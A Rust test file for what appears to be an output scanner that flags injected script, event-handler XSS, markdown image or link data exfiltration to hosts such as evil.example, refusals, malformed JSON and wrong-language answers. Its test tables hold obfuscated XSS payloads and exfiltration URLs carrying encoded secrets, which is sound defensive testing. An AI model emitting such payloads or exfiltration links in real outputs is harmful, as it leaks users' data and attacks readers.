//! The output checks on attacks, evasions and benign answers.

use super::exfiltration::link_at;
use super::*;

/// The byte-by-byte scan `exfiltration` had before it jumped between `]` and `=`: every
/// position is tried.
fn exfiltration_reference(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match link_at(text, i, allowed_hosts, out) {
            Some(next) => i = next,
            None => i += 1,
        }
    }
}

proptest::proptest! {
    /// Running the script automaton only at anchor-derived starts finds exactly the matches
    /// of an unanchored scan of the whole text. Fragments overlap and nest patterns.
    #[test]
    fn script_candidates_find_the_same(parts in proptest::collection::vec(proptest::prop_oneof![
        proptest::prelude::Just("<SCRIPT".to_owned()),
        proptest::prelude::Just("JavaScript:".to_owned()),
        proptest::prelude::Just("vbscript:".to_owned()),
        proptest::prelude::Just("data:text/html".to_owned()),
        proptest::prelude::Just("srcdoc=".to_owned()),
        proptest::prelude::Just("expression(".to_owned()),
        proptest::prelude::Just("document.cookie".to_owned()),
        proptest::prelude::Just("<meta http-equiv".to_owned()),
        proptest::prelude::Just("<link ".to_owned()),
        "[<:=(.a-zA-Z ]{0,6}",
        "[ -~]{0,6}",
        "\\PC{0,4}",
    ], 0..10)) {
        let text = parts.concat();
        let d = detector();
        let ac = d.script.as_ref().expect("script automaton");
        let want: Vec<_> = ac.find_iter(&text).collect();
        proptest::prop_assert_eq!(d.script_matches(ac, &text), want);
    }

    /// Jumping to ']' and '=' finds exactly what looking at every byte found.
    #[test]
    fn exfiltration_jumps_find_the_same(parts in proptest::collection::vec(proptest::prop_oneof![
        proptest::prelude::Just("![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)".to_owned()),
        proptest::prelude::Just("[x](https://e.example/c?d=aGVsbG8gd29ybGQgc2VjcmV0) ".to_owned()),
        proptest::prelude::Just("<img src=\"https://e.example/x?q=c2VjcmV0IHRva2VuIGhlcmU\">".to_owned()),
        proptest::prelude::Just("<a HREF='https://e.example/aGVsbG8gd29ybGQgc2VjcmV0aGVsbG8'>".to_owned()),
        proptest::prelude::Just("Hsrc=\"".to_owned()),
        "[ -~]{0,6}",
        "[\\]\\[()=!hrefsc'\"]{0,6}",
    ], 0..8)) {
        let text = parts.concat();
        let (mut a, mut b) = (Vec::new(), Vec::new());
        exfiltration(&text, &[], &mut a);
        exfiltration_reference(&text, &[], &mut b);
        proptest::prop_assert_eq!(a, b);
    }
}

fn detector() -> &'static OutputDetector {
    static D: std::sync::OnceLock<OutputDetector> = std::sync::OnceLock::new();
    D.get_or_init(OutputDetector::new)
}

fn kinds(text: &str) -> Vec<&'static str> {
    let mut v = Vec::new();
    detector().scan(text, &[], &mut v);
    v.iter().map(|f| f.kind).collect()
}

#[test]
fn table() {
    let cases: &[(&str, &[&str])] = &[
        ("Here: <script>alert(1)</script>", &["SCRIPT"]),
        ("<SCRIPT SRC=//x.example/a.js>", &["SCRIPT"]),
        ("<img src=x onerror=alert(1)>", &["EVENT_HANDLER"]),
        ("<img src=x onerror\n=alert(1)>", &["EVENT_HANDLER"]),
        ("<img src=x onerror\t =alert(1)>", &["EVENT_HANDLER"]),
        ("<svg/onload='console.log(1)'>", &["EVENT_HANDLER"]),
        ("[click](javascript:alert(1))", &["SCRIPT"]),
        ("<a href=\"&#106;avascript:alert(1)\">x</a>", &["SCRIPT"]),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", &["SCRIPT"]),
        ("[x](javascript&#58;alert(1))", &["SCRIPT"]),
        ("[x](JavaScript&colon;alert(1))", &["SCRIPT"]),
        ("[x](jav\tascript:alert(1))", &["SCRIPT"]),
        ("Tom &amp; Jerry: javascript is fun, &#169; 2024", &[]),
        ("The onload event fires when a page loads.", &[]),
        ("Use `x = 1 < 2` then onerror = handler in JS", &[]),
        (
            "![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)",
            &["MARKDOWN_IMAGE"],
        ),
        ("![logo](https://cdn.example/logo.png)", &["MARKDOWN_IMAGE"]),
        (
            "![a](<https://evil.example/p.png?q=c2VjcmV0IHRva2Vu>)",
            &["MARKDOWN_IMAGE"],
        ),
        (
            "![a](https:\\\\evil.example\\p.png?q=c2VjcmV0IHRva2Vu)",
            &["MARKDOWN_IMAGE"],
        ),
        ("See [docs](https://docs.rs/regex) for more.", &[]),
        (
            "[x](https://evil.example/c?data=aGVsbG8gd29ybGQgc2VjcmV0)",
            &["MARKDOWN_LINK"],
        ),
        ("![rel](images/a.png)", &[]),
        ("I'm sorry, but I can't help with that.", &["REFUSAL"]),
        ("Sure! Here is the recipe.", &[]),
    ];
    for (t, want) in cases {
        assert_eq!(&kinds(t), want, "text {t:?}");
    }
}

#[test]
fn allowed_hosts_pass() {
    let d = OutputDetector::new();
    let image = "![a](https://img.example.com/p.png?q=c2VjcmV0IHRva2Vu)";
    let mut v = Vec::new();
    d.scan(image, &["example.com".into()], &mut v);
    assert!(v.is_empty(), "{v:?}");
    d.scan(image, &["other.example.org".into()], &mut v);
    assert_eq!(v.len(), 1);
    // A host that only ends like an allowed one is not its subdomain.
    v.clear();
    d.scan(
        "![a](https://evilexample.com/p.png?q=c2VjcmV0IHRva2Vu)",
        &["example.com".into()],
        &mut v,
    );
    assert_eq!(v.len(), 1);
}

#[test]
fn parameterised_checks() {
    assert!(check_json(" {\"a\": [1, 2]} ", false, &[]).is_none());
    assert!(check_json("```json\n{\"a\": 1}\n```", true, &[]).is_none());
    assert!(check_json("```json\n{\"a\": 1}\n```", false, &[]).is_some());
    assert!(check_json("Sure: {\"a\": 1}", true, &[]).is_some());
    let keys = ["a".to_owned(), "b".to_owned()];
    let kind = |t: &str| check_json(t, true, &keys).map(|f| f.kind);
    assert_eq!(kind(r#"{"a": 1, "b": {"c": [1]}, "d": null}"#), None);
    assert_eq!(kind(r#"{"a": 1}"#), Some("MISSING_KEY"));
    assert_eq!(kind(r#"[{"a": 1, "b": 2}]"#), Some("MISSING_KEY"));
    assert_eq!(kind(r#"{"a": 1, "b": "#), Some("NOT_JSON"));
    let en = [Language::English];
    assert!(check_language("The cat is on the mat and it is happy with this.", &en[..]).is_none());
    assert_eq!(
        check_language(
            "El gato está en la casa y es muy feliz con los niños.",
            &en[..]
        )
        .map(|f| f.kind),
        Some("es")
    );
    assert_eq!(
        check_language("Кошка сидит на ковре и очень довольна.", &en[..]).map(|f| f.kind),
        Some("ru")
    );
    assert_eq!(
        check_language("猫坐在垫子上，非常高兴，今天天气很好。", &en[..]).map(|f| f.kind),
        Some("zh")
    );
    assert!(check_language("ok", &en[..]).is_none());
}
